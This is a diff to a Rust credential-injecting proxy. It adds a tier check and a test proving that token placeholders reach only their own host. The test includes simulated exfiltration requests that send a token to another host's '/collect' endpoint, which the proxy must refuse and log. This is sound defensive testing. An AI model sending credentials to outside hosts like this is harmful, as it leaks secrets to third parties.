@@ -176,6 +176,16 @@ impl Judge for PolicyJudge {
         let d = self.policy.classify(&action, &ctx);
         let granted = self.granted;
         Box::pin(async move {
+            if let Some(t) = r.credential_tier.filter(|t| *t > granted) {
+                return Judgement::Refuse {
+                    rule: "credential-tier".into(),
+                    tier: Some(t),
+                    reason: format!(
+                        "the request carries {:?}, released from tier {t} on; granted {granted}",
+                        r.credentials
+                    ),
+                };
+            }
             if d.tier <= granted {
                 Judgement::Proceed {
                     rule: d.rule,
@@ -631,4 +641,98 @@ fn non_tls_bytes_in_an_intercepted_tunnel_to_port_443_are_refused() {
     assert!(out.starts_with("HTTP/1.1 200"), "{out}");
     assert!(!out.contains("upstream says hi"), "{out}");
     assert!(s.events().iter().any(|e| e.rule == "not-tls" && !e.allowed));
+}
+
+const OTHER: &str = "other.warden-test.invalid";
+const SECRET: &str = "ghp_realsecretrealsecretrealsecret0123";
+
+#[test]
+fn a_credential_is_swapped_in_only_for_its_host_and_refused_elsewhere() {
+    let ca = test_ca(&[HOST, OTHER]);
+    let up = tls_upstream(&ca);
+    let mut placeholder = String::new();
+    let mut pushing_placeholder = String::new();
+    let s = setup(&ca, |c| {
+        c.allow(&format!("{OTHER}:*")).unwrap();
+        c.allow_private(OTHER).unwrap();
+        c.resolve_override(OTHER, vec![Ipv4Addr::LOCALHOST.into()])
+            .unwrap();
+        let cred = warden_proxy::Credential::new(
+            "forge-token",
+            &[HOST.to_string()],
+            SECRET.into(),
+            "GH_TOKEN",
+            Tier::Auto,
+        )
+        .unwrap();
+        let push = warden_proxy::Credential::new(
+            "push-token",
+            &[HOST.to_string()],
+            "glpat-pushpushpushpushpush".into(),
+            "GL_TOKEN",
+            Tier::Async,
+        )
+        .unwrap();
+        placeholder = cred.placeholder.clone();
+        pushing_placeholder = push.placeholder.clone();
+        c.credentials = vec![cred, push];
+    });
+    assert!(placeholder.starts_with("ghp_") && placeholder.len() == SECRET.len());
+
+    // Bearer and Basic (git's way), HTTP/1.1 and HTTP/2: the upstream gets the real secret.
+    let bearer = format!("Authorization: Bearer {placeholder}");
+    let basic = format!("x-access-token:{placeholder}");
+    for args in [
+        vec!["--http1.1", "-H", bearer.as_str()],
+        vec!["--http2", "-u", basic.as_str()],
+    ] {
+        let mut a = args.clone();
+        let u = url(&up, "/api");
+        a.push(&u);
+        let (code, body, err) = curl(&s, &s.bundle, &a);
+        assert_eq!(code, 200, "{body}{err}");
+    }
+    let seen: Vec<Option<String>> = up
+        .seen
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|x| x.authorization.clone())
+        .collect();
+    assert_eq!(
+        seen[0].as_deref(),
+        Some(format!("Bearer {SECRET}").as_str())
+    );
+    let b64 = {
+        use base64::Engine;
+        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{SECRET}"))
+    };
+    assert_eq!(seen[1].as_deref(), Some(format!("Basic {b64}").as_str()));
+
+    // The same placeholder to another (allowed) host: refused, recorded, never forwarded.
+    let other_url = format!("https://{OTHER}:{}/collect", up.addr.port());
+    let (code, body, _) = curl(&s, &s.bundle, &["-H", &bearer, &other_url]);
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("exfiltration"), "{body}");
+    let q = format!("{other_url}?t={placeholder}");
+    let (code, _, _) = curl(&s, &s.bundle, &[&q]);
+    assert_eq!(code, 403);
+    assert_eq!(
+        s.events()
+            .iter()
+            .filter(|e| e.rule == "credential-exfiltration" && !e.allowed)
+            .count(),
+        2
+    );
+
+    // A credential released only from tier async on is refused at granted tier auto.
+    let h = format!("PRIVATE-TOKEN: {pushing_placeholder}");
+    let (code, body, _) = curl(&s, &s.bundle, &["-H", &h, &url(&up, "/api")]);
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("credential-tier"), "{body}");
+    assert_eq!(
+        up.seen.lock().unwrap().len(),
+        2,
+        "only the two honest requests arrived"
+    );
 }
